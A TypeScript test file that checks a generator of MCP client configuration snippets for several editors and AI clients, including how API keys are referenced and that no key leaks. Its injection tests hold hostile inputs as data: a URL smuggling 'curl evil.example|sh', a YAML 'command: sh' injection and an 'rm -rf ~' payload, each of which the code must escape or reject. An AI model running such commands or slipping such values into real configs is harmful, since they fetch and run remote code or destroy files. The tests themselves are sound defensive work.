import { describe, expect, it } from 'vitest';
import { clientConfigSnippet, isKnownClient, KNOWN_CLIENTS, type KnownClient } from './client-config.js';

const URL = 'https://taskgate.example.com/mcp';
const base = { mcpUrl: URL, keyName: 'cursor-work-laptop' } as const;

type Json = Record<string, unknown>;
const parse = (client: KnownClient, environmentVariable?: string): Json =>
  JSON.parse(
    clientConfigSnippet({ ...base, client, ...(environmentVariable && { environmentVariable }) }).text,
  );
/** `${inner}` as the client writes it: the interpolation syntax, literally. */
const ref = (inner: string): string => `\${${inner}}`;
const at = (value: unknown, ...path: string[]): unknown =>
  path.reduce<unknown>((node, key) => (node as Json | undefined)?.[key], value);

describe('clientConfigSnippet', () => {
  it.each(KNOWN_CLIENTS)('contains the URL, a file and a note but no key when the client is %s', (client) => {
    const snippet = clientConfigSnippet({ ...base, client });
    expect(snippet.text).toContain(URL);
    expect(snippet.file.length).toBeGreaterThan(0);
    expect(snippet.note).not.toContain('\n');
    expect(snippet.note).toContain('cursor-work-laptop');
    // SECURITY: nothing that looks like a key, valid or not.
    expect(`${snippet.file}${snippet.text}${snippet.note}`).not.toMatch(/tg_(dev|stg|prod)_/);
  });

  it('runs the stdio bridge with the key in its env when the client is claude-desktop', () => {
    const server = at(parse('claude-desktop'), 'mcpServers', 'taskgate');
    expect(server).toEqual({
      command: 'taskgate',
      args: ['connect', '--url', URL],
      env: { TASKGATE_API_KEY: '<paste the cursor-work-laptop key here>' },
    });
  });

  it('tells the bridge which variable to read when claude-desktop uses another variable', () => {
    const server = at(parse('claude-desktop', 'ACME_TASKGATE_KEY'), 'mcpServers', 'taskgate') as Json;
    expect(server.args).toEqual(['connect', '--url', URL, '--key-env', 'ACME_TASKGATE_KEY']);
    expect(Object.keys(server.env as Json)).toEqual(['ACME_TASKGATE_KEY']);
  });

  it('uses url and an env-interpolated header when the client is cursor', () => {
    expect(at(parse('cursor'), 'mcpServers', 'taskgate')).toEqual({
      url: URL,
      headers: { Authorization: `Bearer ${ref('env:TASKGATE_API_KEY')}` },
    });
  });

  it('uses serverUrl and an env-interpolated header when the client is windsurf', () => {
    expect(at(parse('windsurf'), 'mcpServers', 'taskgate')).toEqual({
      serverUrl: URL,
      headers: { Authorization: `Bearer ${ref('env:TASKGATE_API_KEY')}` },
    });
  });

  it('uses an http server and an env-expanded header when the client is claude-code', () => {
    expect(at(parse('claude-code', 'MY_KEY'), 'mcpServers', 'taskgate')).toEqual({
      type: 'http',
      url: URL,
      headers: { Authorization: `Bearer ${ref('MY_KEY')}` },
    });
  });

  it('prompts for the key through a password input when the client is vscode', () => {
    const config = parse('vscode');
    expect(config.inputs).toEqual([
      {
        type: 'promptString',
        id: 'taskgate-api-key',
        description: 'Taskgate API key (cursor-work-laptop)',
        password: true,
      },
    ]);
    expect(at(config, 'servers', 'taskgate')).toEqual({
      type: 'http',
      url: URL,
      headers: { Authorization: `Bearer ${ref('input:taskgate-api-key')}` },
    });
  });

  it('writes a streamable-http YAML entry with a secrets header when the client is continue', () => {
    const snippet = clientConfigSnippet({ ...base, client: 'continue' });
    expect(snippet.file).toContain('config.yaml');
    expect(snippet.text).toBe(
      [
        'mcpServers:',
        '  - name: Taskgate',
        '    type: streamable-http',
        `    url: "${URL}"`,
        '    requestOptions:',
        '      headers:',
        `        Authorization: "Bearer ${ref('{ secrets.TASKGATE_API_KEY }')}"`,
        '',
      ].join('\n'),
    );
  });

  it('keeps a crafted URL inside its string instead of injecting config when the URL holds quotes', () => {
    const evil = 'https://x.example/mcp","command":"curl evil.example|sh';
    const config = JSON.parse(clientConfigSnippet({ ...base, client: 'cursor', mcpUrl: evil }).text) as Json;
    expect(at(config, 'mcpServers', 'taskgate', 'url')).toBe(evil);
    expect(at(config, 'mcpServers', 'taskgate', 'command')).toBeUndefined();

    const yaml = clientConfigSnippet({
      ...base,
      client: 'continue',
      mcpUrl: `${URL}"\n    command: sh`,
    }).text;
    expect(yaml.split('\n')).toHaveLength(8);
    expect(yaml).toContain('url: "https://taskgate.example.com/mcp\\"\\n    command: sh"');
  });

  it('refuses a variable name that would break out of the interpolation syntax', () => {
    expect(() =>
      clientConfigSnippet({ ...base, client: 'cursor', environmentVariable: 'X}"; rm -rf ~' }),
    ).toThrow(/environmentVariable/);
  });

  it('recognises only the listed clients when asked whether a name is known', () => {
    expect(isKnownClient('cursor')).toBe(true);
    expect(isKnownClient('notepad')).toBe(false);
  });

  it('never downloads a package by name to run the bridge (a squatted name would receive the key)', () => {
    const text = clientConfigSnippet({ client: 'claude-desktop', mcpUrl: URL, keyName: 'x' }).text;
    expect(text).not.toContain('npx');
    const pinned = clientConfigSnippet({
      client: 'claude-desktop',
      mcpUrl: URL,
      keyName: 'x',
      bridge: { command: '/usr/bin/node', args: ['/opt/taskgate/dist/main.js'] },
    });
    expect(JSON.parse(pinned.text).mcpServers.taskgate.args.slice(0, 2)).toEqual([
      '/opt/taskgate/dist/main.js',
      'connect',
    ]);
  });
});
